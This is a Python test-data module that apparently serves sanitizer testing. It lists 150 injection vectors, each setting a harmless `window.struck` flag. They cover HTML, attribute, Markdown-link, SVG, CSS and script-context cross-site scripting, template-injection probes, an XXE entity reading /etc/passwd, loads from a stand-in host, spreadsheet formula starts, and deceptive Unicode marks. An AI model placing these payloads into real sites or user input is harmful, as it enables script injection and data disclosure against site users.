"""150 ways in which text has run, dressed or led a page astray, by what they abuse; each would set `window.struck`.

From the HTML standard's own parsing rules, Markdown's ways to write links, the template syntax that pages are made with,
and common practice of testers; written down from memory.
"""

from __future__ import annotations

_J = "window.struck=1"

MARKUP = tuple(
    text.replace("§", _J)
    for text in (
        "<script>§</script>", "<ScRiPt>§</sCrIpT>", "<script >§</script\t>", "<script/x>§</script>", "<scr<script>ipt>§</scr</script>ipt>",
        "<script src=data:,§></script>", "<script type=module>§</script>", "<img src=x onerror=§>", "<img/src=x/onerror=§>",
        "<img src=x onerror='§'>", "<img src=`x` onerror=`§`>", "<img src=\"x\"onerror=\"§\">", "<IMG SRC=x ONERROR=§>", "<img src=x oNeRrOr=§ //",
        "<image src=x onerror=§>", "<img srcset=x onerror=§>", "<input onfocus=§ autofocus>", "<select onfocus=§ autofocus>",
        "<textarea onfocus=§ autofocus>", "<body onload=§>", "<iframe src=javascript:§>", "<iframe srcdoc='&lt;script&gt;parent.§&lt;/script&gt;'>",
        "<object data=javascript:§>", "<embed src=javascript:§>", "<form action=javascript:§><button>x</button></form>",
        "<button formaction=javascript:§ form=x>x</button>", "<isindex action=javascript:§>", "<details open ontoggle=§>x</details>",
        "<video><source onerror=§></video>", "<audio src=x onerror=§>", "<marquee onstart=§>x</marquee>", "<meta http-equiv=refresh content='0;url=javascript:§'>",
        "<base href=javascript:§//>", "<link rel=stylesheet href=data:,*{color:red}>", "<a href=javascript:§>x</a>", "<a href='java\tscript:§'>x</a>",
        "<a href=&#106;avascript:§>x</a>", "<div onpointerover=§>x</div>", "<p style=position:fixed;inset:0 onclick=§>x", "<template><script>§</script></template>",
        "<noscript><img src=x onerror=§></noscript>", "<frameset onload=§>", "<table background=javascript:§>", "<dialog open onclose=§>", "<x onclick=§>x</x>",
    )
)  # fmt: skip
ATTRIBUTES = tuple(
    text.replace("§", _J)
    for text in (
        "\" onfocus=§ autofocus x=\"", "' onfocus=§ autofocus x='", "\"><script>§</script>", "'><script>§</script>", "\"><img src=x onerror=§>",
        "` onerror=§ `", "x onmouseover=§ ", "\" style=\"animation-name:x\" onanimationstart=\"§", "&quot; onload=§ x=&quot;", "&#34;&#62;<img src=x onerror=§>",
        "\\\" onload=§ //", "\\'><script>§</script>", "\"/><svg/onload=§>", "\" href=\"javascript:§", "\" srcdoc=\"<script>parent.§</script>",
    )
)  # fmt: skip
ADDRESSES = tuple(
    text.replace("§", _J)
    for text in (
        "[x](javascript:§)", "[x](JaVaScRiPt:§)", "[x](<javascript:§>)", "[x]( javascript:§)", "[x](java&#115;cript:§)", "[x](javascript&colon;§)",
        "[x](&#106;avascript:§)", "[x](data:text/html,§)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:§)", "[x](blob:§)", "[x](file:///etc/passwd)",
        "[x](//out.example/p)", "![x](javascript:§)", "![x](data:image/svg+xml,§)", "![x](https://out.example/p.png)", "<javascript:§>", "<data:text/html,§>",
        "[x][r] [r]: javascript:§", "[r]: javascript:§", "[x](https://out.example \"\\\" onclick=§\")", "[x](\\javascript:§)", "javascript:§",
        "[![x](x)](javascript:§)", "[x](java\u200bscript:§)", "[x](\u0001javascript:§)", "[x](feed:javascript:§)", "[x](view-source:javascript:§)",
    )
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% raw %}", "{% include 'main.html' %}", "{# x #}", "{{ ''.__class__ }}",
    "{%- set x = 1 -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s", "{0.__class__}", "{{{{", "}}}}", "\x02wzxhzdk:0\x03", "[TOC]",
)  # fmt: skip
PICTURES_AND_STYLES = tuple(
    text.replace("§", _J)
    for text in (
        "<svg onload=§>", "<svg/onload=§>", "<svg><script>§</script></svg>", "<svg><script href=data:,§ /></svg>", "</svg><script>§</script>",
        "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:§></svg>", "<svg><a xlink:href=javascript:§><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:§></foreignObject></svg>", "<svg><use href=data:image/svg+xml,§#x /></svg>", "</title><script>§</script>",
        "</text></svg><img src=x onerror=§>", "]]><script>§</script>", "<![CDATA[<script>§</script>]]>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "<math><mtext></mtext><script>§</script></math>", "<math href=javascript:§>x</math>", "</style><script>§</script>", "<style>*{display:none}</style>",
        "<style>@import '//out.example/x'</style>", "x;background:url(//out.example/x)", "}*{display:none}", "expression(§)", "url(javascript:§)",
    )
)  # fmt: skip
SCRIPTS = tuple(
    text.replace("§", _J)
    for text in (
        "</script><script>§//", "</SCRIPT ><script>§</script>", "<!--<script>", "<!-- --!><script>§</script>", "--><script>§</script>", "\";§;//", "';§;//",
        "\\\";§;//", "\\u0022;§;//", "\u2028§\u2029", "`;§;`", "${§}",
    )
)  # fmt: skip
TABLES_AND_MARKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\u202ekcurts\u202c", "\u2066\u2069x", "\u0441\u0441\u0435\u0440\u0442", "\ufeffx",
)  # fmt: skip
"Starts that a table's program takes for a formula; marks that turn, hide and counterfeit letters."

VECTORS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *PICTURES_AND_STYLES, *SCRIPTS, *TABLES_AND_MARKS)
